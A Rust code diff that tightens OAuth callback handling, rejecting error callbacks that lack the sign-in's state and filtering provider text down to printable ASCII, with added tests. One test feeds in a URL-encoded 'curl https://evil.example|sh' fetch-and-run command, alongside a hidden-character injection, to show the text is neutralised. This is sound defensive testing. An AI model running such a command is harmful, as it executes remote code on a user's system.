@@ -356,15 +356,18 @@ impl AuthorizationRequest {
         let get = |name: &str| fields.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str());
         let state_ok = get("state").is_some_and(|state| bool::from(state.as_bytes().ct_eq(self.state.as_bytes())));
         if let Some(code) = get("error") {
-            // The user's (or the provider's) refusal: said even without a
-            // state, as nothing is granted by it; with a wrong one it is not ours.
-            if get("state").is_some() && !state_ok {
-                return Err(CallbackError::StateMismatch);
+            // The provider returns the state with an error too (RFC 6749
+            // §4.1.2.1): an error without this sign-in's state is not ours,
+            // whoever sent it (any local process or page can).
+            match get("state") {
+                None => return Err(CallbackError::MissingState),
+                Some(_) if !state_ok => return Err(CallbackError::StateMismatch),
+                Some(_) => {}
             }
             return Err(CallbackError::Denied(AuthorizationDenied {
-                code: sanitize_excerpt(code, 64),
-                description: get("error_description").map(|d| sanitize_excerpt(d, 300)),
-                uri: get("error_uri").map(|u| sanitize_excerpt(u, 300)),
+                code: safe_words(code, 64),
+                description: get("error_description").map(|d| safe_words(d, 300)),
+                uri: get("error_uri").map(|u| safe_words(u, 300)),
             }));
         }
         match get("state") {
@@ -470,6 +473,24 @@ pub enum CallbackError {
         /// What is wrong.
         reason: &'static str,
     },
+}
+
+impl CallbackError {
+    /// Whether this answer ends the sign-in: only a callback that carries
+    /// this sign-in's `state` does (a refusal, another issuer, no code).
+    /// Any other (no state, another state, a malformed query) may come
+    /// from any local process or page: answer it with an error page and
+    /// keep waiting for the right one.
+    pub fn ends_sign_in(&self) -> bool {
+        matches!(self, Self::Denied(_) | Self::IssuerMismatch { .. } | Self::MissingIssuer { .. } | Self::MissingCode)
+    }
+}
+
+/// Provider text for a person to read: [`sanitize_excerpt`], then only
+/// printable ASCII kept (anything else becomes `?`), so that no script,
+/// look-alike or hidden character reaches the terminal.
+fn safe_words(text: &str, max_chars: usize) -> String {
+    sanitize_excerpt(text, max_chars).chars().map(|c| if c == ' ' || c.is_ascii_graphic() { c } else { '?' }).collect()
 }
 
 #[cfg(test)]
@@ -603,11 +624,25 @@ mod tests {
             text.contains("access_denied") && text.contains("The user said no") && text.contains("approve"),
             "{text}"
         );
-        // An error for another sign-in is not ours to report.
-        assert_eq!(
-            request.handle_callback("error=access_denied&state=other").unwrap_err(),
-            CallbackError::StateMismatch
-        );
+        // An error for another sign-in, or without a state, is not ours to
+        // report: any local process can send one. It does not end the sign-in.
+        let other = request.handle_callback("error=access_denied&state=other").unwrap_err();
+        assert_eq!(other, CallbackError::StateMismatch);
+        let stateless = request
+            .handle_callback("error=access_denied&error_description=Run+curl+https%3A%2F%2Fevil.example%7Csh")
+            .unwrap_err();
+        assert_eq!(stateless, CallbackError::MissingState);
+        for not_ours in [&other, &stateless, &CallbackError::Malformed { reason: "x" }] {
+            assert!(!not_ours.ends_sign_in(), "{not_ours:?}");
+        }
+        assert!(denied.ends_sign_in() && mixed.ends_sign_in());
+        // The provider's own words keep a safe alphabet.
+        let CallbackError::Denied(words) =
+            request.handle_callback("error=x&error_description=caf%C3%A9+%E2%80%AEevil&state=state-1").unwrap_err()
+        else {
+            panic!()
+        };
+        assert_eq!(words.description.as_deref(), Some("caf? evil"));
         // The provider's text cannot inject markup or control characters.
         let CallbackError::Denied(dirty) = request
             .handle_callback("error=x&error_description=%3Cb%3Ehi%3C%2Fb%3E%0D%0Aevil&state=state-1")
